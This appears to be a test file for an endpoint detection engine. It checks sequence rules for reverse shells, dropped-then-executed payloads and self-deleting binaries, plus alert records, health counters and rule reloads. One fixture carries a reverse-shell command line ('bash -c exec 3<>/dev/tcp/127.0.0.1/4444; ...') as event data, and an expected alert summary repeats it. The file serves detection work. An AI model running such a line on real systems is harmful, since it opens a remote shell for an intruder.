// Sequence rules in the DetectionStage (shared by the agent and `rules test`), their alert records, the
// detect-mode policy, the sweep, the health keys and the replay, on hand-built compiled rules.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { NormalizedRecord } from '../src/normalize/records.js';
import type { CompiledSequenceRule, CompiledStep, RecordView } from '../src/rules/compiled.js';
import { DetectionStage, SEQUENCE_SWEEP_LAG_NS } from '../src/detect/detection-stage.js';
import { SEQUENCE_RECORD_MAX_BYTES, type SequenceAlertRecord } from '../src/detect/sequence-alert.js';
import { buildHealthRecord } from '../src/health/health-record.js';
import { PipelineCounters } from '../src/health/counters.js';
import { replayNdjson } from '../src/detect/replay.js';
import { toNdjsonLine } from '../src/output/serialize.js';
import { exampleText, exampleWith } from './config-fixtures.js';
import { BIN, REPO_ROOT } from './helpers/agent-process.js';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { AGENT, connect, processStart, rule, unlinkat, write } from './detect-fixtures.js';

const S = 1_000_000_000;
const T0 = 81_000 * S;

/** A step on some event types, matching when `when` holds, joined by the field `by` (read through the view). */
function step(events: string[], by: string, when: (v: RecordView) => boolean = () => true): CompiledStep {
  return {
    events: new Set(events),
    matches: when,
    key: (v) => {
      const k = v.value(by);
      return k === undefined || k === null ? undefined : String(k);
    },
  };
}

function seqRule(id: string, steps: CompiledStep[], opts: Partial<Omit<CompiledSequenceRule, 'steps' | 'meta' | 'fingerprint'>> & { output?: string; fingerprint?: string } = {}): CompiledSequenceRule {
  return {
    meta: { id, name: `${id} name`, severity: 'critical', description: `${id} description`, tags: ['execution'], mitre: ['T1059.004'], output: opts.output ?? null },
    steps,
    until: opts.until ?? null,
    maxspanNs: opts.maxspanNs ?? 5 * S,
    ordered: opts.ordered ?? true,
    fingerprint: opts.fingerprint ?? id,
  };
}

const SHELL = (v: RecordView) => ['/usr/bin/bash', '/bin/bash'].includes(String(v.value('exe_path')));
const REVERSE = seqRule('RG-SEQ-REVERSE-SHELL', [step(['network_connect'], 'exec_id', SHELL), step(['process_start'], 'parent_exec_id')], {
  until: step(['process_exit'], 'exec_id'),
});
const DROP_EXEC = seqRule('RG-SEQ-DROP-EXEC', [step(['file_write'], 'resolved_path'), step(['process_start'], 'exe_path')], { maxspanNs: 60 * S });

const BASH = { pid: 500, comm: 'bash', exe_path: '/usr/bin/bash' };
const shellConnect = (t: number, execId = 'E-bash') => ({ ...connect(8443, { ...BASH, timestamp_ns: t }), exec_id: execId });
const childStart = (t: number, parent = 'E-bash', exe = '/usr/bin/id') => ({
  ...processStart({ pid: 501, ppid: 500, comm: 'id', exe_path: exe, timestamp_ns: t }),
  exec_id: 'E-id',
  parent_exec_id: parent,
  parent_exe_path: '/usr/bin/bash',
  parent_argv: ['bash', '-c', 'exec 3<>/dev/tcp/127.0.0.1/4444; /usr/bin/id >&3'],
  argv: ['/usr/bin/id'],
  cwd: '/root',
});

function stage(mode: 'monitor' | 'detect', rules: CompiledSequenceRule[], limits = {}): DetectionStage {
  return new DetectionStage({ agent: { id: AGENT, mode } as never }, { engineRules: [], sequences: rules }, () => undefined, undefined, { sequenceLimits: limits });
}

test('a completed sequence is one alert after its last record: metadata, acting process of the last record, every step', () => {
  const d = stage('monitor', [REVERSE]);
  const first = shellConnect(T0);
  assert.deepEqual(d.evaluate(first).alerts, []);
  const last = childStart(T0 + 2 * S);
  const { writeRecord, alerts } = d.evaluate(last);
  assert.equal(writeRecord, true);
  assert.equal(alerts.length, 1);
  const a = alerts[0] as SequenceAlertRecord;
  assert.deepEqual(Object.keys(a), [...Object.keys(a)].sort(), 'keys in lexicographic order');
  assert.equal(a.event_type, 'alert');
  assert.equal(a.rule_type, 'sequence');
  assert.equal(a.rule_id, 'RG-SEQ-REVERSE-SHELL');
  assert.equal(a.rule_name, 'RG-SEQ-REVERSE-SHELL name');
  assert.equal(a.severity, 'critical');
  assert.deepEqual([a.tags, a.mitre, a.description], [['execution'], ['T1059.004'], 'RG-SEQ-REVERSE-SHELL description']);
  // acting process = the last record's
  assert.deepEqual([a.pid, a.ppid, a.comm, a.exe_path, a.exec_id, a.source_event_type], [501, 500, 'id', '/usr/bin/id', 'E-id', 'process_start']);
  assert.deepEqual([a.parent_exec_id, a.parent_exe_path, a.cwd], ['E-bash', '/usr/bin/bash', '/root']);
  assert.deepEqual(a.argv, ['/usr/bin/id']);
  assert.equal(a.parent_argv?.[0], 'bash');
  assert.equal(a.timestamp_ns, last.timestamp_ns, 'joins its source record like a condition alert');
  // every step, in order, whole
  assert.deepEqual(a.sequence, [first, last].map((r) => ({ ...r })));
  assert.match(a.summary, /^Sequence rule RG-SEQ-REVERSE-SHELL .*bash \(pid 500\) connect 127\.0\.0\.1:8443, then id \(pid 501\) started \/usr\/bin\/id\. Investigation signal/);
  assert.match(a.alert_id, /^[0-9a-f-]{36}$/);
  const stats = d.sequenceStats();
  assert.equal(stats.rules, 1);
  assert.deepEqual([stats.stats.started, stats.stats.completed, stats.stats.active], [1, 1, 0]);
});

test('negatives: connect without a command, a command under another shell, steps too far apart, until cancels', () => {
  const d = stage('monitor', [REVERSE]);
  assert.deepEqual(d.evaluate(shellConnect(T0, 'E-1')).alerts, []); // never followed
  assert.deepEqual(d.evaluate(childStart(T0 + S, 'E-other')).alerts, []); // unrelated process
  assert.deepEqual(d.evaluate(shellConnect(T0 + S, 'E-2')).alerts, []);
  assert.deepEqual(d.evaluate(childStart(T0 + 7 * S, 'E-2')).alerts, [], '6 s after its connect: too late');
  assert.deepEqual(d.evaluate(shellConnect(T0 + 8 * S, 'E-3')).alerts, []);
  assert.deepEqual(d.evaluate({ ...processStart({ timestamp_ns: T0 + 8 * S }), event_type: 'process_exit', exec_id: 'E-3' } as unknown as NormalizedRecord).alerts, []);
  assert.deepEqual(d.evaluate(childStart(T0 + 9 * S, 'E-3')).alerts, [], 'the shell exited: cancelled');
  const s = d.sequenceStats().stats;
  assert.deepEqual([s.started, s.completed, s.expired, s.cancelled, s.active], [3, 0, 2, 1, 0]);
});

test('condition alerts come first, then the sequence alert of the same record', () => {
  const cond = rule({ id: 'PROC-ID', type: 'process', process_names: ['id'] });
  const d = new DetectionStage({ agent: { id: AGENT, mode: 'monitor' } as never }, { engineRules: [cond], sequences: [REVERSE] }, () => undefined);
  d.evaluate(shellConnect(T0));
  const { alerts } = d.evaluate(childStart(T0 + S));
  assert.deepEqual(alerts.map((a) => [a.rule_id, a.rule_type]), [['PROC-ID', 'process'], ['RG-SEQ-REVERSE-SHELL', 'sequence']]);
});

test('detect mode writes the records that take a step (seen before the match) and the completing one; not the others', () => {
  const d = stage('detect', [REVERSE]);
  assert.equal(d.evaluate(connect(80, { comm: 'curl', exe_path: '/usr/bin/curl', timestamp_ns: T0 })).writeRecord, false, 'no step');
  assert.equal(d.evaluate(shellConnect(T0)).writeRecord, true, 'first step: written when seen');
  assert.equal(d.evaluate(childStart(T0 + S, 'E-unrelated')).writeRecord, false, 'a process_start no partial waits for');
  const done = d.evaluate(childStart(T0 + 2 * S));
  assert.deepEqual([done.writeRecord, done.alerts.length], [true, 1]);
});

test('a record larger than the bound is summarized in the alert; BigInt timestamps survive serialization', () => {
  const d = stage('monitor', [DROP_EXEC]);
  const big = 2n ** 60n;
  const w = { ...write('/tmp/drop/payload', { timestamp_ns: big }), exec_id: 'E-cp' };
  d.evaluate(w);
  const huge = { ...processStart({ exe_path: '/tmp/drop/payload', comm: 'payload', timestamp_ns: big + 1n }), argv: ['payload', 'x'.repeat(20_000), 'tail'], exec_id: 'E-payload' };
  const { alerts } = d.evaluate(huge);
  assert.equal(alerts.length, 1);
  const line = toNdjsonLine(alerts[0]!);
  const parsed = JSON.parse(line) as { sequence: Record<string, unknown>[]; timestamp_ns: number; path: unknown };
  assert.equal(parsed.sequence.length, 2);
  assert.equal(parsed.sequence[0]!.resolved_path, '/tmp/drop/payload');
  assert.equal(parsed.sequence[0]!.timestamp_ns, big.toString(), 'nested u64 above 2^53: decimal string, exact');
  assert.equal(parsed.sequence[0]!.summarized, undefined);
  const s1 = parsed.sequence[1]!;
  assert.equal(s1.summarized, true);
  assert.ok((s1.record_bytes as number) > SEQUENCE_RECORD_MAX_BYTES);
  assert.deepEqual([s1.event_type, s1.exe_path, s1.exec_id, s1.pid, s1.timestamp_ns], ['process_start', '/tmp/drop/payload', 'E-payload', 4242, (big + 1n).toString()]);
  assert.equal(s1.argv_cut, true);
  assert.equal((s1.argv as string[]).join('').length, 1024);
  assert.ok(JSON.stringify(s1).length < SEQUENCE_RECORD_MAX_BYTES, 'the summary is bounded');
});

test('an output template is rendered with the last record\'s fields (derived ones through its view), as for condition rules', () => {
  const d = stage('monitor', [seqRule('RG-SEQ-T', [...REVERSE.steps], { output: '{exe_path} ran under {parent_exe_path} ({parent_command_line})' })]);
  d.evaluate(shellConnect(T0));
  const a = d.evaluate(childStart(T0 + S)).alerts[0] as SequenceAlertRecord;
  assert.equal(a.summary, '/usr/bin/id ran under /usr/bin/bash (bash -c exec 3<>/dev/tcp/127.0.0.1/4444; /usr/bin/id >&3)');
});

test('sweep: partials expire without further records, only once maxspan plus the in-flight lag has passed', () => {
  const d = stage('monitor', [REVERSE]);
  d.evaluate(shellConnect(T0));
  d.sweep(BigInt(T0 + 5 * S + 1) + SEQUENCE_SWEEP_LAG_NS - 1n);
  assert.deepEqual([d.sequenceStats().stats.expired, d.sequenceStats().stats.active], [0, 1], 'a record in flight could still complete it');
  d.sweep(BigInt(T0 + 5 * S + 1) + SEQUENCE_SWEEP_LAG_NS);
  assert.deepEqual([d.sequenceStats().stats.expired, d.sequenceStats().stats.active], [1, 0]);
  d.sweep(1n); // early in boot: nothing to do, no negative time
});

test('health: a flood of first steps is visible as evictions per bound; every partial is accounted for', () => {
  const d = stage('monitor', [REVERSE, DROP_EXEC], { maxPartialPerRule: 100, maxPartialTotal: 150 });
  // first one rule's flood (per-rule bound), then another's (total bound, then its own per-rule bound)
  for (let i = 0; i < 500; i++) d.evaluate(shellConnect(T0 + i, `E-${i}`));
  for (let i = 0; i < 500; i++) d.evaluate({ ...write(`/tmp/f${i}`, { timestamp_ns: T0 + 500 + i }), exec_id: 'E-w' });
  d.evaluate(childStart(T0 + 2000, 'E-499')); // the newest partial still completes
  const h = buildHealthRecord({
    agentId: AGENT,
    time: 't',
    timestampNs: 1n,
    uptimeSecs: 1,
    counters: new PipelineCounters(),
    kernel: null,
    bridge: { batches: 0, records: 0, bytes: 0, pollErrors: 0 },
    table: { size: 0, pendingSize: 0, recordsEvicted: 0, pendingEvicted: 0 },
    final: false,
    sequences: d.sequenceStats(),
  });
  assert.equal(h.sequence_rules, 2);
  assert.equal(h.sequence_partials_started, 1000);
  assert.equal(h.sequence_completed, 1);
  assert.equal(h.sequence_partials_active, 149);
  // 400 connects over the rule bound, then 50 connects evicted for the total bound, then 400 writes over theirs
  assert.equal(h.sequence_partials_evicted_rule_limit, 800);
  assert.equal(h.sequence_partials_evicted_total_limit, 50);
  assert.equal(h.sequence_partials_unaccounted, 0);
  for (const key of ['sequence_partials_expired', 'sequence_partials_cancelled', 'sequence_partials_restarted', 'sequence_records_untimed', 'sequence_matches_unkeyed', 'sequence_partials_dropped_reload']) assert.equal(h[key], 0, key);
});

test('a replacing stage (rule reload) drops the old partials, counted, and keeps the counters cumulative', () => {
  const old = stage('monitor', [REVERSE]);
  old.evaluate(shellConnect(T0));
  old.evaluate(childStart(T0 + S));
  old.evaluate(shellConnect(T0 + 2 * S, 'E-held'));
  // reloaded without sequence rules, then again with them: nothing is lost from the counters
  const none = new DetectionStage({ agent: { id: AGENT, mode: 'monitor' } as never }, { engineRules: [], sequences: [] }, () => undefined, undefined, { previous: old });
  const again = new DetectionStage({ agent: { id: AGENT, mode: 'monitor' } as never }, { engineRules: [], sequences: [REVERSE] }, () => undefined, undefined, { previous: none });
  assert.deepEqual(again.evaluate(childStart(T0 + 3 * S, 'E-held')).alerts, [], 'the held partial was dropped by the reload');
  const s = again.sequenceStats();
  assert.equal(s.rules, 1);
  assert.deepEqual([s.stats.started, s.stats.completed, s.stats.reload_dropped, s.stats.active], [2, 1, 1, 0]);
});

test('a reload keeps the partials of an unchanged rule (they complete after it) and drops those of a changed one', () => {
  const old = stage('monitor', [REVERSE, DROP_EXEC]);
  old.evaluate(shellConnect(T0, 'E-kept'));
  old.evaluate({ ...write('/tmp/dropped', { timestamp_ns: T0 }), exec_id: 'E-writer' });
  // REVERSE unchanged; DROP_EXEC's steps changed (another fingerprint)
  const changed = { ...DROP_EXEC, fingerprint: 'RG-SEQ-DROP-EXEC v2' };
  const next = new DetectionStage({ agent: { id: AGENT, mode: 'monitor' } as never }, { engineRules: [], sequences: [REVERSE, changed] }, () => undefined, undefined, { previous: old });
  const alerts = next.evaluate(childStart(T0 + S, 'E-kept')).alerts;
  assert.deepEqual(alerts.map((a) => a.rule_id), ['RG-SEQ-REVERSE-SHELL'], 'the shell that connected before the reload is still followed');
  assert.equal((alerts[0] as unknown as { sequence: unknown[] }).sequence.length, 2, 'the alert names both records, the one before the reload too');
  assert.deepEqual(next.evaluate({ ...processStart({ pid: 900, exe_path: '/tmp/dropped', timestamp_ns: T0 + 2 * S }), exec_id: 'E-dropped' }).alerts, [], 'the changed rule lost its partial');
  const s = next.sequenceStats().stats;
  assert.deepEqual([s.started, s.completed, s.reload_dropped, s.active], [2, 1, 1, 0]);
  assert.deepEqual(old.sequenceStats().stats.active, 0, 'the old stage holds nothing');
});

test('health without sequence rules: every sequence key is present and 0', () => {
  const d = new DetectionStage({ agent: { id: AGENT, mode: 'monitor' } as never }, { engineRules: [], sequences: [] }, () => undefined);
  assert.deepEqual(d.sequenceStats().rules, 0);
  const h = buildHealthRecord({
    agentId: AGENT, time: 't', timestampNs: 1n, uptimeSecs: 1, counters: new PipelineCounters(), kernel: null,
    bridge: { batches: 0, records: 0, bytes: 0, pollErrors: 0 }, table: { size: 0, pendingSize: 0, recordsEvicted: 0, pendingEvicted: 0 }, final: false,
  });
  const keys = Object.keys(h).filter((k) => k.startsWith('sequence_'));
  assert.equal(keys.length, 14);
  for (const k of keys) assert.equal(h[k], 0, k);
});

test('rules test replay runs the same sequences on recorded NDJSON (numbers and strings as timestamps)', () => {
  const config = exampleWith();
  const selfDelete = seqRule('RG-SEQ-SELF-DELETE', [step(['process_start'], 'exe_path', (v) => String(v.value('exe_path')).startsWith('/tmp/')), step(['file_unlinkat'], 'filename')], {
    maxspanNs: 30 * S,
  });
  const lines = [
    { ...processStart({ pid: 700, comm: 'dropper', exe_path: '/tmp/dropper', timestamp_ns: T0 }), exec_id: 'E-d' },
    { ...unlinkat('/tmp/other', { pid: 700, comm: 'dropper', exe_path: '/tmp/dropper', timestamp_ns: T0 + S }), exec_id: 'E-d' },
    { ...unlinkat('/tmp/dropper', { pid: 700, comm: 'dropper', exe_path: '/tmp/dropper', timestamp_ns: String(T0 + 2 * S) as never }), exec_id: 'E-d' },
    { event_type: 'health', raw_events_read: 3 },
  ];
  const result = replayNdjson(lines.map((l) => JSON.stringify(l)).join('\n'), config, [], [selfDelete]);
  const seq = result.alerts.filter((a) => a.rule_type === 'sequence') as SequenceAlertRecord[];
  assert.equal(seq.length, 1);
  assert.deepEqual(seq[0]!.sequence.map((r) => [r.event_type, r.filename]), [['process_start', '/tmp/dropper'], ['file_unlinkat', '/tmp/dropper']]);
  assert.deepEqual([result.sequences.started, result.sequences.completed], [1, 1]);
});

test('rules test: the README\'s sequence rules (TOML, compiled by the loader) fire on recorded NDJSON, negatives do not', () => {
  const readme = readFileSync(join(REPO_ROOT, 'README.md'), 'utf8');
  const section = readme.slice(readme.indexOf('### Sequence rules'));
  const toml = /```toml\n([\s\S]*?)```/.exec(section)![1]!;
  const dir = mkdtempSync(join(tmpdir(), 'rg-seq-replay-'));
  mkdirSync(join(dir, 'rules.d'));
  writeFileSync(join(dir, 'config.toml'), exampleText());
  writeFileSync(join(dir, 'rules.d', 'sequences.toml'), toml);
  const shell = { pid: 500, ppid: 1, comm: 'bash', exe_path: '/usr/bin/bash' };
  const recs: object[] = [
    // reverse shell: bash connects, then its child runs id (3 s later); a second shell connects and runs nothing
    { ...processStart({ ...shell, timestamp_ns: T0 }), exec_id: 'E-bash' },
    { ...connect(8443, { ...shell, timestamp_ns: T0 + S }), exec_id: 'E-bash' },
    { ...connect(8443, { ...shell, pid: 600, timestamp_ns: T0 + S }), exec_id: 'E-quiet' },
    { ...processStart({ pid: 501, ppid: 500, comm: 'id', exe_path: '/usr/bin/id', timestamp_ns: T0 + 4 * S }), exec_id: 'E-id', parent_exec_id: 'E-bash' },
    // drop and execute: written then run; a file run without being written
    { ...write('/tmp/d/payload', { pid: 700, comm: 'cp', exe_path: '/usr/bin/cp', timestamp_ns: T0 + 5 * S }), exec_id: 'E-cp' },
    { ...processStart({ pid: 701, comm: 'payload', exe_path: '/tmp/d/payload', timestamp_ns: T0 + 6 * S }), exec_id: 'E-payload' },
    { ...processStart({ pid: 702, comm: 'other', exe_path: '/tmp/d/other', timestamp_ns: T0 + 6 * S }), exec_id: 'E-other' },
    // self delete: payload deletes itself; other deletes a different file
    { ...unlinkat('/tmp/d/payload', { pid: 701, comm: 'payload', exe_path: '/tmp/d/payload', timestamp_ns: T0 + 7 * S }), exec_id: 'E-payload' },
    { ...unlinkat('/tmp/d/victim', { pid: 702, comm: 'other', exe_path: '/tmp/d/other', timestamp_ns: T0 + 7 * S }), exec_id: 'E-other' },
  ];
  writeFileSync(join(dir, 'events.ndjson'), recs.map((r) => JSON.stringify(r)).join('\n') + '\n');
  const r = spawnSync(process.execPath, [BIN, 'rules', 'test', '--config', join(dir, 'config.toml'), '--events', join(dir, 'events.ndjson')], { encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
  const alerts = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as SequenceAlertRecord).filter((a) => a.rule_type === 'sequence');
  assert.deepEqual(
    alerts.map((a) => [a.rule_id, a.pid, a.sequence.map((s) => `${String(s.event_type)}:${String(s.pid)}`).join(' ')]),
    [
      ['RG-SEQ-REVERSE-SHELL', 501, 'network_connect:500 process_start:501'],
      ['RG-SEQ-DROP-EXECUTE', 701, 'file_write:700 process_start:701'],
      ['RG-SEQ-SELF-DELETE', 701, 'process_start:701 file_unlinkat:701'],
    ],
  );
  assert.match(r.stderr, /sequences: 3 completed, \d+ partial at the end/);
});
